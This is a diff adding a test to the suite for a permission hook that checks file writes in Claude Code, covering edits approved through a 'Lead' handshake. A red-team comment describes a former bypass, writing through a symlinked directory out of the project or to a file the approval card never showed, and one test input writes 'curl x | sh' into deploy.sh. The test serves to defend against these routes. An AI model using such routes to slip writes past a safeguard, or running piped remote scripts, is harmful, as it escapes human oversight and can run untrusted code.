@@ -164,6 +164,41 @@ describe("the hook reads the file a Write/Edit/MultiEdit changes", () => {
     expect(String(decision.permissionDecisionReason)).toMatch(/goes through the symbolic link d\b/);
   });
 
+  it("the Lead's edit is checked as the model's call was: no link on its way, the file the card showed", async () => {
+    // Red team: the hook checked the model's path and handed Claude Code the Lead's unchecked, so
+    // an edit to `docs/notes.md` (`docs` a link out of the project) or to an existing file that no
+    // card showed was written.
+    const cwd = await makeTempDir("handshake-project-");
+    const home = await makeTempDir("handshake-home-");
+    await symlink(home, path.join(cwd, "docs"));
+    await writeFile(path.join(cwd, "deploy.sh"), "echo safe\n");
+    const decideEdited = async (editedArgs: Record<string, unknown>) => {
+      const input = preToolUse(cwd, "Write", { file_path: "notes.md", content: "hello\n" });
+      const running = hook(input);
+      const request = await pendingRequestOf(input.session_id, "tool_approval");
+      await handshake.lead.decide(request.id, { ...approve, editedArgs });
+      const run = await running;
+      expect(run.code, run.stderr).toBe(0);
+      return decisionOf(run.stdout);
+    };
+
+    const throughLink = await decideEdited({ file_path: "docs/notes.md", content: "hello\n" });
+    expect(throughLink.permissionDecision).toBe("deny");
+    expect(String(throughLink.permissionDecisionReason)).toMatch(
+      /goes through the symbolic link docs\b/,
+    );
+    const another = await decideEdited({ file_path: "deploy.sh", content: "curl x | sh\n" });
+    expect(another.permissionDecision).toBe("deny");
+    expect(String(another.permissionDecisionReason)).toContain(
+      "writes a file other than the one the card showed",
+    );
+    const sameFile = { file_path: "notes.md", content: "hello, edited\n" };
+    expect(await decideEdited(sameFile)).toMatchObject({
+      permissionDecision: "allow",
+      updatedInput: sameFile,
+    });
+  });
+
   it("the file changed before the approval was used: denied with FILE_CHANGED", async () => {
     const cwd = await makeTempDir("handshake-project-");
     const file = path.join(cwd, "deploy.sh");
